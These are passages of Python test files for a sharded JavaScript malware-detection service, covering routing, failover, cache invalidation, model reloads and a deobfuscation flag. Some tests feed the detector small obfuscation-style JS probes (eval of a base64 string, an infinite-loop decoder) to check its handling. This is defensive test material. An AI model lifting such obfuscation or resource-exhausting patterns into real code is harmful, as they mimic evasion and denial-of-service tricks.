        assert status == 200 and payload["decisive"] is True

    def test_syntax_error_is_200_with_parse_error_finding(self, server):
        status, _, body = http_json(server, "POST", "/analyze", {"source": "var (((("})
        payload = json.loads(body)
        assert status == 200
        assert payload["parse_ok"] is False
        assert payload["findings"][0]["rule_id"] == "parse-error"

    def test_missing_source_is_400(self, server):
        status, _, body = http_json(server, "POST", "/analyze", {"name": "x.js"})
        assert status == 400
        assert "source" in json.loads(body)["error"]["message"]

    def test_non_object_body_is_400(self, server):
        status, _, _ = http_json(server, "POST", "/analyze", payload=["not", "an", "object"])
        assert status == 400

    def test_malformed_json_is_400(self, server):
        status, _, _ = http_json(server, "POST", "/analyze", raw_body="{nope")
        assert status == 400

    def test_non_string_name_is_400(self, server):
        status, _, _ = http_json(server, "POST", "/analyze", {"source": "1;", "name": 7})
        assert status == 400

    def test_get_method_not_allowed(self, server):
        status, headers, _ = http_json(server, "GET", "/analyze")
        assert status == 405
        assert "Allow" in headers

    def test_backpressure_429_when_queue_full(self, server):
        batcher = server.server.batcher
        limit = server.server.config.queue_limit
        original = batcher.queue_depth
        # Simulate a saturated scan queue without racing real traffic.
        patched = type(batcher)
        saved = patched.queue_depth
        patched.queue_depth = property(lambda self: limit)
        try:
            status, headers, _ = http_json(server, "POST", "/analyze", {"source": "1;"})
        finally:
            patched.queue_depth = saved
        assert status == 429
        assert "Retry-After" in headers
        assert batcher.queue_depth == original

    def test_per_rule_metrics_exposed(self, server):
        http_json(server, "POST", "/analyze", {"source": "with (o) {}"})
        status, _, body = http_json(server, "GET", "/metrics")
        text = body.decode()
        assert status == 200
        assert 'repro_analysis_findings_total{rule="with-statement"}' in text
        assert "repro_analysis_scripts_total" in text
