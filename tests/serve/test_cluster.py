"""End-to-end tests for the sharded scan tier: router + supervisor + shards.

One real cluster per module — two shard daemons spawned as subprocesses
from a saved model, one router in front — driven through the public
:class:`~repro.client.ScanClient`.  Covers the acceptance contract:
verdicts through the router match a single daemon, affinity holds, a
SIGKILLed shard is replaced with zero failed (retried) requests, and a
rolling reload bumps every shard's epoch without downtime.
"""

import http.client
import json
import os
import re
import signal
import time

import pytest

from repro.client import ScanAPIError, ScanClient
from repro.core import JSRevealer, JSRevealerConfig, load_detector, save_detector
from repro.datasets import experiment_split
from repro.serve import BackgroundCluster, BackgroundServer, ClusterConfig, RouterConfig, ServeConfig


@pytest.fixture(scope="module")
def split():
    return experiment_split(seed=7, pretrain_per_class=6, train_per_class=12, test_per_class=8)


def _train(split, seed):
    det = JSRevealer(
        JSRevealerConfig(embed_dim=16, pretrain_epochs=3, k_benign=4, k_malicious=4, seed=seed)
    )
    det.pretrain(split.pretrain.sources, split.pretrain.labels)
    det.fit(split.train.sources, split.train.labels)
    return det


@pytest.fixture(scope="module")
def model_dirs(split, tmp_path_factory):
    """Two saved models with distinct fingerprints (boot + reload target)."""
    root = tmp_path_factory.mktemp("models")
    save_detector(_train(split, seed=7), root / "a")
    save_detector(_train(split, seed=11), root / "b")
    return str(root / "a"), str(root / "b")


@pytest.fixture(scope="module")
def cluster(model_dirs, tmp_path_factory):
    config = ClusterConfig(
        model_dir=model_dirs[0],
        n_shards=2,
        port=0,
        cache_dir=str(tmp_path_factory.mktemp("shared-cache")),
        router=RouterConfig(max_body_bytes=64 * 1024, request_timeout_s=60.0),
    )
    with BackgroundCluster(config) as background:
        yield background


@pytest.fixture(scope="module")
def client(cluster):
    return ScanClient(cluster.url, timeout_s=60.0, retries=2)


def http_raw(cluster, method, path, payload=None, raw_body=None):
    connection = http.client.HTTPConnection(cluster.host, cluster.port, timeout=60)
    body = raw_body if raw_body is not None else (
        json.dumps(payload) if payload is not None else None
    )
    headers = {"Content-Type": "application/json"} if body is not None else {}
    connection.request(method, path, body=body, headers=headers)
    response = connection.getresponse()
    data = response.read()
    status, header_map = response.status, {k.lower(): v for k, v in response.getheaders()}
    connection.close()
    return status, header_map, data


def wait_for(predicate, timeout_s=90.0, poll_s=0.25):
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(poll_s)
    return False


# ----------------------------------------------------------------- basics


def test_healthz_aggregates_both_shards(client):
    health = client.healthz()
    assert health["status"] == "ok"
    assert health["role"] == "router"
    assert health["n_shards"] == 2 and health["n_healthy"] == 2
    shards = {shard["shard"]: shard for shard in health["shards"]}
    assert set(shards) == {"shard-0", "shard-1"}
    for shard in shards.values():
        assert shard["healthy"] is True
        assert shard["pid"] > 0 and shard["port"] > 0
        assert shard["epoch"] == 0


def test_version_reports_router(client):
    version = client.version()
    assert version["service"] == "repro.serve.router"
    assert version["n_shards"] == 2


def test_scan_affinity_same_source_same_shard(cluster, split):
    source = split.test.sources[0]
    seen = set()
    for _ in range(3):
        status, headers, _body = http_raw(cluster, "POST", "/v1/scan", {"source": source})
        assert status == 200
        seen.add(headers["x-shard"])
    assert len(seen) == 1  # consistent hashing keeps the key on one shard
    assert seen.pop() in ("shard-0", "shard-1")


def test_scans_spread_across_shards(cluster, split):
    shards = set()
    for source in split.test.sources:
        status, headers, _body = http_raw(cluster, "POST", "/v1/scan", {"source": source})
        assert status == 200
        shards.add(headers["x-shard"])
    assert shards == {"shard-0", "shard-1"}


def test_verdicts_match_single_daemon(client, model_dirs, split):
    """The acceptance bar: routed verdicts are identical to one daemon's."""
    detector = load_detector(model_dirs[0])
    with BackgroundServer(detector, ServeConfig(port=0)) as single:
        solo = ScanClient(single.url, retries=0)
        for source in split.test.sources[:8]:
            through_router = client.scan(source).raw
            direct = solo.scan(source).raw
            # trace ids are per-request, cache_hit depends on warmth,
            # stage_ms is wall-clock (and zeroed on cache hits), and the
            # "trace" provenance block rides along only on head-sampled
            # requests — all transport/observability artifacts, not
            # verdict content.
            for volatile in ("trace_id", "cache_hit", "stage_ms", "elapsed_ms", "trace"):
                through_router.pop(volatile, None)
                direct.pop(volatile, None)
            assert through_router == direct


def test_batch_fans_out_and_merges_in_order(client, split):
    scripts = [
        split.test.sources[i] if i % 2 == 0 else {"source": split.test.sources[i], "name": f"s{i}.js"}
        for i in range(6)
    ]
    batch = client.scan_batch(scripts, threshold=0.5)
    assert batch["n_files"] == 6
    assert len(batch["results"]) == 6
    # Order is the caller's: each position matches a one-shot routed scan.
    for i, result in enumerate(batch["results"]):
        single = client.scan(split.test.sources[i])
        assert result["label"] == single.label
        assert result["probability"] == single.probability
    assert batch["model_fingerprint"] == single.model_fingerprint


def test_batch_duplicates_deduplicated_on_shard(client, cluster):
    """Single-flight, proven by counter: 4 copies of a fresh script in one
    batch reach the owning shard once and dedup in-batch there."""
    fresh = f"var unique_{os.getpid()} = {time.time_ns()};"
    batch = client.scan_batch([fresh, fresh, fresh, fresh])
    assert batch["n_files"] == 4
    # Identical verdict content; the per-position name and the compute
    # bookkeeping (who paid the stage cost, who rode the dedup) differ.
    volatile = {"path", "stage_ms", "cache_hit"}
    assert len(
        {json.dumps({k: v for k, v in r.items() if k not in volatile}, sort_keys=True)
         for r in batch["results"]}
    ) == 1
    dedup_total = 0
    for shard in client.healthz()["shards"]:
        shard_client = ScanClient(f"http://{cluster.host}:{shard['port']}", retries=0)
        match = re.search(
            r'repro_scan_dedup_total\{scope="batch"\} (\d+)', shard_client.metrics_text()
        )
        if match:
            dedup_total += int(match.group(1))
    assert dedup_total >= 3


# ------------------------------------------------------------ golden errors


def test_router_golden_400(cluster):
    status, _headers, body = http_raw(cluster, "POST", "/v1/scan", raw_body="{not json")
    assert status == 400
    payload = json.loads(body)
    assert payload["api_version"] == "v1"
    assert payload["error"]["code"] == "bad_request"


def test_router_golden_404(cluster):
    status, _headers, body = http_raw(cluster, "GET", "/v1/no/such/route")
    assert status == 404
    assert json.loads(body)["error"]["code"] == "not_found"


def test_router_golden_413(cluster):
    big = {"source": "x" * (128 * 1024)}
    status, _headers, body = http_raw(cluster, "POST", "/v1/scan", big)
    assert status == 413
    assert json.loads(body)["error"]["code"] == "payload_too_large"


def test_router_legacy_alias_deprecation(cluster, split):
    status, headers, body = http_raw(cluster, "POST", "/scan", {"source": split.test.sources[1]})
    assert status == 200
    assert headers["deprecation"] == "true"
    payload = json.loads(body)
    assert "api_version" not in payload  # legacy body passes through verbatim
    assert payload["verdict"] in ("malicious", "benign")


def test_shard_errors_pass_through_as_envelopes(client):
    with pytest.raises(ScanAPIError) as caught:
        client.scan_batch([123])  # invalid entry → 400 from the router
    assert caught.value.status == 400
    assert caught.value.code == "bad_request"


# ------------------------------------------------------------ cross-process


def test_cross_process_trace_merges_router_and_shard(client, cluster, split):
    trace_id = os.urandom(16).hex()
    traceparent = f"00-{trace_id}-{os.urandom(8).hex()}-01"  # sampled: always records
    verdict = client.scan(split.test.sources[2], traceparent=traceparent)
    assert verdict.trace_id == trace_id
    merged = client.trace(trace_id)
    assert merged["trace_id"] == trace_id
    names = [span["name"] for span in merged["spans"]]
    assert "router.scan" in names  # the router's hop
    assert "http.scan" in names  # the shard's hop, same trace id
    shard_spans = [s for s in merged["spans"] if s.get("attributes", {}).get("shard")]
    assert shard_spans, "expected spans annotated with their shard id"
    assert merged["shards"]  # at least one shard contributed
    assert merged["tree"]


# ----------------------------------------------------- failure + replacement


def test_sigkill_shard_is_replaced_with_zero_failed_requests(client, cluster, split):
    before = {s["shard"]: s for s in client.healthz()["shards"]}
    victim = before["shard-0"]
    os.kill(victim["pid"], signal.SIGKILL)
    # Requests issued right through the kill window must all succeed —
    # the router retries the dead shard's keys onto the survivor.
    for source in split.test.sources[:6]:
        verdict = client.scan(source)
        assert verdict.verdict in ("malicious", "benign")
    # The supervisor replaces the shard under the same id on a fresh pid.
    def replaced():
        shards = {s["shard"]: s for s in client.healthz()["shards"]}
        shard = shards["shard-0"]
        return shard["healthy"] and shard["restarts"] >= 1 and shard["pid"] != victim["pid"]

    assert wait_for(replaced, timeout_s=90.0), "shard-0 was not replaced in time"
    health = client.healthz()
    assert health["status"] == "ok" and health["n_healthy"] == 2
    # And the replacement serves scans again.
    assert client.scan(split.test.sources[0]).verdict in ("malicious", "benign")


# -------------------------------------------------------------- rolling roll


def test_rolling_reload_bumps_every_shard_epoch(client, model_dirs, split):
    fingerprint_before = client.scan(split.test.sources[0]).model_fingerprint
    answer = client.admin_reload(model_dirs[1])
    assert answer["status"] == "reloaded"
    assert len(answer["shards"]) == 2
    for rolled in answer["shards"]:
        assert rolled["epoch"] >= 1
        assert rolled["model_fingerprint"] != fingerprint_before

    def all_rolled():
        return all(s["epoch"] and s["epoch"] >= 1 for s in client.healthz()["shards"])

    assert wait_for(all_rolled, timeout_s=30.0)
    after = client.scan(split.test.sources[0])
    assert after.model_fingerprint != fingerprint_before
    assert after.verdict in ("malicious", "benign")


def test_rolling_reload_bad_model_dir_is_a_400(client):
    with pytest.raises(ScanAPIError) as caught:
        client.admin_reload("/no/such/model")
    assert caught.value.status == 400
    assert caught.value.code == "bad_request"
    # The fleet keeps serving on its current epoch.
    assert client.healthz()["n_healthy"] == 2
