"""End-to-end tests for the sharded scan tier: router + supervisor + shards.

One real cluster per module — two shard daemons spawned as subprocesses
from a saved model, one router in front — driven through the public
:class:`~repro.client.ScanClient`.  Covers the acceptance contract:
verdicts through the router match a single daemon, affinity holds, a
SIGKILLed shard is replaced with zero failed (retried) requests, and a
rolling reload bumps every shard's epoch without downtime.
"""

import http.client
import json
import os
import re
import signal
import time

import pytest

from repro.client import ScanAPIError, ScanClient
from repro.core import JSRevealer, JSRevealerConfig, load_detector, save_detector
from repro.datasets import experiment_split
from repro.serve import BackgroundCluster, BackgroundServer, ClusterConfig, RouterConfig, ServeConfig


@pytest.fixture(scope="module")
def split():
    return experiment_split(seed=7, pretrain_per_class=6, train_per_class=12, test_per_class=8)


def _train(split, seed):
    det = JSRevealer(
        JSRevealerConfig(embed_dim=16, pretrain_epochs=3, k_benign=4, k_malicious=4, seed=seed)
    )
    det.pretrain(split.pretrain.sources, split.pretrain.labels)
    det.fit(split.train.sources, split.train.labels)
    return det


@pytest.fixture(scope="module")
def model_dirs(split, tmp_path_factory):
    """Two saved models with distinct fingerprints (boot + reload target)."""
    root = tmp_path_factory.mktemp("models")
    save_detector(_train(split, seed=7), root / "a")
    save_detector(_train(split, seed=11), root / "b")
    return str(root / "a"), str(root / "b")


@pytest.fixture(scope="module")
def cluster(model_dirs, tmp_path_factory):
    config = ClusterConfig(
        model_dir=model_dirs[0],
        n_shards=2,
        port=0,
        cache_dir=str(tmp_path_factory.mktemp("shared-cache")),
        router=RouterConfig(max_body_bytes=64 * 1024, request_timeout_s=60.0),
    )
    with BackgroundCluster(config) as background:
        yield background


@pytest.fixture(scope="module")
def client(cluster):
    return ScanClient(cluster.url, timeout_s=60.0, retries=2)


def http_raw(cluster, method, path, payload=None, raw_body=None):
    connection = http.client.HTTPConnection(cluster.host, cluster.port, timeout=60)
    body = raw_body if raw_body is not None else (
        json.dumps(payload) if payload is not None else None
    )
    headers = {"Content-Type": "application/json"} if body is not None else {}
    connection.request(method, path, body=body, headers=headers)
    response = connection.getresponse()
    data = response.read()
    status, header_map = response.status, {k.lower(): v for k, v in response.getheaders()}
    connection.close()
    return status, header_map, data


def wait_for(predicate, timeout_s=90.0, poll_s=0.25):
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(poll_s)
    return False


# ----------------------------------------------------------------- basics


def test_healthz_aggregates_both_shards(client):
    health = client.healthz()
    assert health["status"] == "ok"
    assert health["role"] == "router"
    assert health["n_shards"] == 2 and health["n_healthy"] == 2
    shards = {shard["shard"]: shard for shard in health["shards"]}
    assert set(shards) == {"shard-0", "shard-1"}
    for shard in shards.values():
        assert shard["healthy"] is True
        assert shard["pid"] > 0 and shard["port"] > 0
        assert shard["epoch"] == 0


def test_version_reports_router(client):
    version = client.version()
    assert version["service"] == "repro.serve.router"
    assert version["n_shards"] == 2


def test_scan_affinity_same_source_same_shard(cluster, split):
    source = split.test.sources[0]
    seen = set()
    for _ in range(3):
        status, headers, _body = http_raw(cluster, "POST", "/v1/scan", {"source": source})
        assert status == 200
        seen.add(headers["x-shard"])
    assert len(seen) == 1  # consistent hashing keeps the key on one shard
    assert seen.pop() in ("shard-0", "shard-1")


def test_scans_spread_across_shards(cluster, split):
    shards = set()
    for source in split.test.sources:
        status, headers, _body = http_raw(cluster, "POST", "/v1/scan", {"source": source})
        assert status == 200
        shards.add(headers["x-shard"])
    assert shards == {"shard-0", "shard-1"}


def test_verdicts_match_single_daemon(client, model_dirs, split):
    """The acceptance bar: routed verdicts are identical to one daemon's."""
    detector = load_detector(model_dirs[0])
    with BackgroundServer(detector, ServeConfig(port=0)) as single:
        solo = ScanClient(single.url, retries=0)
        for source in split.test.sources[:8]:
            through_router = client.scan(source).raw
            direct = solo.scan(source).raw
            # trace ids are per-request, cache_hit depends on warmth,
            # stage_ms is wall-clock (and zeroed on cache hits), and the
            # "trace" provenance block rides along only on head-sampled
            # requests — all transport/observability artifacts, not
            # verdict content.
            for volatile in ("trace_id", "cache_hit", "stage_ms", "elapsed_ms", "trace"):
                through_router.pop(volatile, None)
                direct.pop(volatile, None)
            assert through_router == direct


def test_batch_fans_out_and_merges_in_order(client, split):
    scripts = [
        split.test.sources[i] if i % 2 == 0 else {"source": split.test.sources[i], "name": f"s{i}.js"}
        for i in range(6)
    ]
    batch = client.scan_batch(scripts, threshold=0.5)
    assert batch["n_files"] == 6
    assert len(batch["results"]) == 6
    # Order is the caller's: each position matches a one-shot routed scan.
    for i, result in enumerate(batch["results"]):
        single = client.scan(split.test.sources[i])
        assert result["label"] == single.label
        assert result["probability"] == single.probability
    assert batch["model_fingerprint"] == single.model_fingerprint


def test_batch_duplicates_deduplicated_on_shard(client, cluster):
    """Single-flight, proven by counter: 4 copies of a fresh script in one
    batch reach the owning shard once and dedup in-batch there."""
    fresh = f"var unique_{os.getpid()} = {time.time_ns()};"
    batch = client.scan_batch([fresh, fresh, fresh, fresh])
    assert batch["n_files"] == 4
    # Identical verdict content; the per-position name and the compute
    # bookkeeping (who paid the stage cost, who rode the dedup) differ.
    volatile = {"path", "stage_ms", "cache_hit"}
    assert len(
        {json.dumps({k: v for k, v in r.items() if k not in volatile}, sort_keys=True)
         for r in batch["results"]}
    ) == 1
    dedup_total = 0
    for shard in client.healthz()["shards"]:
        shard_client = ScanClient(f"http://{cluster.host}:{shard['port']}", retries=0)
        match = re.search(
            r'repro_scan_dedup_total\{scope="batch"\} (\d+)', shard_client.metrics_text()
        )
        if match:
            dedup_total += int(match.group(1))
    assert dedup_total >= 3


# ------------------------------------------------------------ golden errors


def test_router_golden_400(cluster):
    status, _headers, body = http_raw(cluster, "POST", "/v1/scan", raw_body="{not json")
    assert status == 400
    payload = json.loads(body)
    assert payload["api_version"] == "v1"
    assert payload["error"]["code"] == "bad_request"


def test_router_golden_404(cluster):
    status, _headers, body = http_raw(cluster, "GET", "/v1/no/such/route")
    assert status == 404
    assert json.loads(body)["error"]["code"] == "not_found"


def test_router_golden_413(cluster):
    big = {"source": "x" * (128 * 1024)}
    status, _headers, body = http_raw(cluster, "POST", "/v1/scan", big)
    assert status == 413
    assert json.loads(body)["error"]["code"] == "payload_too_large"


def test_router_legacy_alias_deprecation(cluster, split):
    status, headers, body = http_raw(cluster, "POST", "/scan", {"source": split.test.sources[1]})
    assert status == 200
    assert headers["deprecation"] == "true"
    payload = json.loads(body)
    assert "api_version" not in payload  # legacy body passes through verbatim
    assert payload["verdict"] in ("malicious", "benign")


def test_shard_errors_pass_through_as_envelopes(client):
    with pytest.raises(ScanAPIError) as caught:
        client.scan_batch([123])  # invalid entry → 400 from the router
    assert caught.value.status == 400
    assert caught.value.code == "bad_request"


# ------------------------------------------------------------ cross-process


def test_cross_process_trace_merges_router_and_shard(client, cluster, split):
    trace_id = os.urandom(16).hex()
    traceparent = f"00-{trace_id}-{os.urandom(8).hex()}-01"  # sampled: always records
    verdict = client.scan(split.test.sources[2], traceparent=traceparent)
    assert verdict.trace_id == trace_id
    merged = client.trace(trace_id)
    assert merged["trace_id"] == trace_id
    names = [span["name"] for span in merged["spans"]]
    assert "router.scan" in names  # the router's hop
    assert "http.scan" in names  # the shard's hop, same trace id
    shard_spans = [s for s in merged["spans"] if s.get("attributes", {}).get("shard")]
    assert shard_spans, "expected spans annotated with their shard id"
    assert merged["shards"]  # at least one shard contributed
    assert merged["tree"]


# ----------------------------------------------------- failure + replacement


def test_sigkill_shard_is_replaced_with_zero_failed_requests(client, cluster, split):
    before = {s["shard"]: s for s in client.healthz()["shards"]}
    victim = before["shard-0"]
    os.kill(victim["pid"], signal.SIGKILL)
    # Requests issued right through the kill window must all succeed —
    # the router retries the dead shard's keys onto the survivor.
    for source in split.test.sources[:6]:
        verdict = client.scan(source)
        assert verdict.verdict in ("malicious", "benign")
    # The supervisor replaces the shard under the same id on a fresh pid.
    def replaced():
        shards = {s["shard"]: s for s in client.healthz()["shards"]}
        shard = shards["shard-0"]
        return shard["healthy"] and shard["restarts"] >= 1 and shard["pid"] != victim["pid"]

    assert wait_for(replaced, timeout_s=90.0), "shard-0 was not replaced in time"
    health = client.healthz()
    assert health["status"] == "ok" and health["n_healthy"] == 2
    # And the replacement serves scans again.
    assert client.scan(split.test.sources[0]).verdict in ("malicious", "benign")


# -------------------------------------------------------------- rolling roll


def test_rolling_reload_bumps_every_shard_epoch(client, model_dirs, split):
    fingerprint_before = client.scan(split.test.sources[0]).model_fingerprint
    answer = client.admin_reload(model_dirs[1])
    assert answer["status"] == "reloaded"
    assert len(answer["shards"]) == 2
    for rolled in answer["shards"]:
        assert rolled["epoch"] >= 1
        assert rolled["model_fingerprint"] != fingerprint_before

    def all_rolled():
        return all(s["epoch"] and s["epoch"] >= 1 for s in client.healthz()["shards"])

    assert wait_for(all_rolled, timeout_s=30.0)
    after = client.scan(split.test.sources[0])
    assert after.model_fingerprint != fingerprint_before
    assert after.verdict in ("malicious", "benign")


def test_rolling_reload_bad_model_dir_is_a_400(client):
    with pytest.raises(ScanAPIError) as caught:
        client.admin_reload("/no/such/model")
    assert caught.value.status == 400
    assert caught.value.code == "bad_request"
    # The fleet keeps serving on its current epoch.
    assert client.healthz()["n_healthy"] == 2


# --------------------------------------------- replication + verdict cache


def test_kill_primary_mid_load_failover_counted_and_zero_failures(client, cluster, split):
    victim = {s["shard"]: s for s in client.healthz()["shards"]}["shard-1"]
    os.kill(victim["pid"], signal.SIGKILL)
    # Every key's replica set spans both shards (R=2 over 2): requests
    # issued straight through the kill window fail over to the survivor
    # with zero client-visible failures.  Fresh sources, so none of them
    # can be answered from the router's verdict cache.
    for i in range(12):
        verdict = client.scan(f"/* failover probe {i} */ document.write({i})")
        assert verdict.verdict in ("malicious", "benign")
    metrics = client.metrics_text()
    failovers = sum(
        int(line.rsplit(" ", 1)[-1])
        for line in metrics.splitlines()
        if line.startswith("repro_router_failovers_total{")
    )
    assert failovers >= 1, "expected at least one recorded replica failover"

    def replaced():
        shard = {s["shard"]: s for s in client.healthz()["shards"]}["shard-1"]
        return shard["healthy"] and shard["pid"] != victim["pid"]

    assert wait_for(replaced, timeout_s=90.0), "shard-1 was not replaced in time"


def test_verdict_cache_hit_and_reload_invalidation(client, cluster, model_dirs, split):
    source = "/* cache-probe */ eval(atob('YWxlcnQoMSk='))"
    status, miss_headers, miss_body = http_raw(cluster, "POST", "/v1/scan", {"source": source})
    assert status == 200
    assert "x-router-cache" not in miss_headers
    served_by = miss_headers["x-shard"]

    status, hit_headers, hit_body = http_raw(cluster, "POST", "/v1/scan", {"source": source})
    assert status == 200
    assert hit_headers["x-router-cache"] == "hit"
    assert hit_headers["x-shard"] == served_by  # affinity attribution replayed
    miss_data = json.loads(miss_body)["data"]
    hit_data = json.loads(hit_body)["data"]
    assert hit_data["verdict"] == miss_data["verdict"]
    assert hit_data["probability"] == miss_data["probability"]
    assert hit_data["trace_id"] is None  # a cached answer has no trace of its own

    health = client.healthz()
    assert health["replicas"] == 2
    assert health["verdict_cache"]["size"] >= 1
    epoch_before = health["verdict_cache"]["epoch"]

    # A rolling reload swaps the model: every cached verdict must die
    # with the epoch, so the next scan is a fresh forward.
    client.admin_reload(model_dirs[1])
    assert client.healthz()["verdict_cache"]["epoch"] == epoch_before + 1
    status, headers, _body = http_raw(cluster, "POST", "/v1/scan", {"source": source})
    assert status == 200
    assert "x-router-cache" not in headers


def test_mixed_epoch_mid_reload_reports_per_shard(client, cluster, model_dirs, split):
    # Roll ONE shard directly (what the fleet looks like mid-reload) and
    # assert the mixed state is faithfully reported per shard: fleet
    # snapshot epochs, per-shard repro_model_epoch gauges, and verdicts
    # attributed to the shard whose model actually produced them.
    fleet = {s["shard"]: s for s in client.healthz()["shards"]}
    rolled_client = ScanClient.for_shard(fleet["shard-0"], timeout_s=60.0)
    stale_client = ScanClient.for_shard(fleet["shard-1"], timeout_s=60.0)
    answer = rolled_client.admin_reload(model_dirs[0])
    rolled_epoch = answer["epoch"]
    stale_epoch = stale_client.healthz()["epoch"]
    assert rolled_epoch > stale_epoch

    # Each shard's own metrics endpoint carries its own epoch gauge.
    assert f"repro_model_epoch {rolled_epoch}" in rolled_client.metrics_text()
    assert f"repro_model_epoch {stale_epoch}" in stale_client.metrics_text()

    # The router's fleet snapshot converges on the mixed truth.
    def snapshot_mixed():
        shards = {s["shard"]: s for s in client.healthz()["shards"]}
        return (
            shards["shard-0"]["epoch"] == rolled_epoch
            and shards["shard-1"]["epoch"] == stale_epoch
        )

    assert wait_for(snapshot_mixed, timeout_s=30.0)
    fingerprints = {
        s["shard"]: s["model_fingerprint"] for s in client.healthz()["shards"]
    }
    assert fingerprints["shard-0"] != fingerprints["shard-1"]

    # Mid-reload scans carry the fingerprint of the shard that answered.
    seen = set()
    for i in range(12):
        payload = {"source": f"/* mixed-epoch probe {i} */ alert({i})"}
        status, headers, body = http_raw(cluster, "POST", "/v1/scan", payload)
        assert status == 200
        shard = headers["x-shard"]
        assert json.loads(body)["data"]["model_fingerprint"] == fingerprints[shard]
        seen.add(shard)
    assert seen == {"shard-0", "shard-1"}  # both epochs actually answered

    # Finish the roll so later tests see a consistent fleet again.
    client.admin_reload(model_dirs[1])

    def converged():
        shards = client.healthz()["shards"]
        prints = {s["model_fingerprint"] for s in shards}
        return len(prints) == 1 and all(s["healthy"] for s in shards)

    assert wait_for(converged, timeout_s=30.0)


def test_scale_up_and_down_through_controller(client, cluster, split):
    # Drive the controller's apply_scale directly (the policy half is
    # fake-clock tested in test_autoscale.py): scaling up must add a
    # healthy shard the ring routes to; scaling down must drain it from
    # the ring *before* the process dies so no request hits a corpse.
    import asyncio

    from repro.serve import SCALE_DOWN, SCALE_UP

    controller = cluster.controller

    def apply(decision):
        return asyncio.run_coroutine_threadsafe(
            controller.apply_scale(decision), cluster._loop
        ).result(120)

    added = apply(SCALE_UP)
    assert added == "shard-2"
    assert wait_for(
        lambda: any(
            s["shard"] == "shard-2" and s["healthy"]
            for s in client.healthz()["shards"]
        )
    )
    health = client.healthz()
    assert health["n_shards"] == 3
    assert {s["shard"] for s in health["shards"]} == {"shard-0", "shard-1", "shard-2"}
    for i, source in enumerate(split.test.sources[:4]):
        assert client.scan(source).verdict in ("malicious", "benign")

    removed = apply(SCALE_DOWN)
    assert removed == "shard-2"
    assert wait_for(
        lambda: {s["shard"] for s in client.healthz()["shards"]} == {"shard-0", "shard-1"}
    )
    assert client.healthz()["n_shards"] == 2
    # The restored two-shard fleet still answers everything.
    for source in split.test.sources[:4]:
        assert client.scan(source).verdict in ("malicious", "benign")


def test_bind_host_threads_through_supervisor_and_client(monkeypatch):
    # --bind must reach the spawned shard's --host argv, the spec the
    # router dials, and the URL ScanClient.for_shard builds — one knob,
    # one host, no loopback assumption baked in anywhere else.
    import repro.serve.supervisor as supervisor_mod

    captured = {}

    class FakeProcess:
        pid = 999

        def poll(self):
            return None

        def terminate(self):
            pass

        def wait(self, timeout=None):
            return 0

    def fake_popen(argv, env=None, stdout=None):
        captured["argv"] = argv
        captured["env"] = env
        return FakeProcess()

    monkeypatch.setattr(supervisor_mod.subprocess, "Popen", fake_popen)
    supervisor = supervisor_mod.ShardSupervisor(
        model_dir="unused", n_shards=1, bind="127.0.0.1"
    )
    spec = supervisor._spawn("shard-0")
    assert spec.host == "127.0.0.1"
    host_flag = captured["argv"].index("--host")
    assert captured["argv"][host_flag + 1] == "127.0.0.1"
    assert captured["env"]["REPRO_SHARD_ID"] == "shard-0"

    from repro.serve.cluster import ClusterConfig as CC
    controller_config = CC(model_dir="unused", n_shards=1, bind="10.0.0.7")
    assert controller_config.bind == "10.0.0.7"

    shard_entry = {"shard": "shard-0", "host": spec.host, "port": spec.port}
    client = ScanClient.for_shard(shard_entry)
    assert client.host == "127.0.0.1"
    assert client.port == spec.port
