"""Serve-layer contract for the deobfuscation pre-pass flag.

``deobfuscate`` is a per-request boolean: flagged obfuscated requests
carry a ``normalization`` report in the verdict (and its provenance
when traced), flagged clean requests are indistinguishable from
unflagged ones, and a hostile decoder degrades the one request without
hurting daemon health.
"""

import http.client
import json
from pathlib import Path

import pytest

from repro.core import JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split
from repro.serve import BackgroundServer, ServeConfig

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
OBFUSCATED = (EXAMPLES / "obfuscated" / "obfuscator_io.js").read_text()
CLEAN = (EXAMPLES / "corpus" / "vendor_0.js").read_text()

INFINITE_DECODER = """
function dec(x) {
  var s = "";
  while (true) {
    s = String.fromCharCode(x);
  }
  return s;
}
var s = dec(104);
"""

#: Per-verdict fields that vary between identical requests.
VOLATILE = {"trace_id", "cache_hit", "stage_ms", "trace"}


@pytest.fixture(scope="module")
def split():
    return experiment_split(seed=7, pretrain_per_class=6, train_per_class=12, test_per_class=8)


@pytest.fixture(scope="module")
def detector(split):
    det = JSRevealer(JSRevealerConfig(embed_dim=16, pretrain_epochs=3, k_benign=4, k_malicious=4, seed=7))
    det.pretrain(split.pretrain.sources, split.pretrain.labels)
    det.fit(split.train.sources, split.train.labels)
    return det


@pytest.fixture(scope="module")
def server(detector):
    config = ServeConfig(port=0, max_batch=4, max_wait_ms=10.0, queue_limit=32)
    with BackgroundServer(detector, config) as background:
        yield background


def http_json(background, method, path, payload=None):
    connection = http.client.HTTPConnection(background.host, background.port, timeout=60)
    body = json.dumps(payload) if payload is not None else None
    headers = {"Content-Type": "application/json"} if body is not None else {}
    connection.request(method, path, body=body, headers=headers)
    response = connection.getresponse()
    data = response.read()
    connection.close()
    return response.status, json.loads(data)


def stable(data):
    return {k: v for k, v in data.items() if k not in VOLATILE}


class TestScanFlag:
    def test_flagged_obfuscated_scan_carries_normalization(self, server):
        status, body = http_json(
            server, "POST", "/v1/scan",
            {"source": OBFUSCATED, "name": "obf.js", "deobfuscate": True},
        )
        assert status == 200
        norm = body["data"]["normalization"]
        assert norm["changed"] is True
        assert norm["rewrites"].get("string_array", 0) >= 1

    def test_unflagged_scan_has_no_normalization(self, server):
        status, body = http_json(
            server, "POST", "/v1/scan", {"source": OBFUSCATED, "name": "obf.js"}
        )
        assert status == 200
        assert "normalization" not in body["data"]

    def test_flagged_clean_scan_identical_to_unflagged(self, server):
        _, flagged = http_json(
            server, "POST", "/v1/scan", {"source": CLEAN, "deobfuscate": True}
        )
        _, unflagged = http_json(server, "POST", "/v1/scan", {"source": CLEAN})
        assert stable(flagged["data"]) == stable(unflagged["data"])
        assert "normalization" not in flagged["data"]

    def test_non_bool_flag_rejected(self, server):
        status, body = http_json(
            server, "POST", "/v1/scan", {"source": CLEAN, "deobfuscate": "yes"}
        )
        assert status == 400

    def test_batch_flag_applies_to_all_scripts(self, server):
        status, body = http_json(
            server, "POST", "/v1/scan/batch",
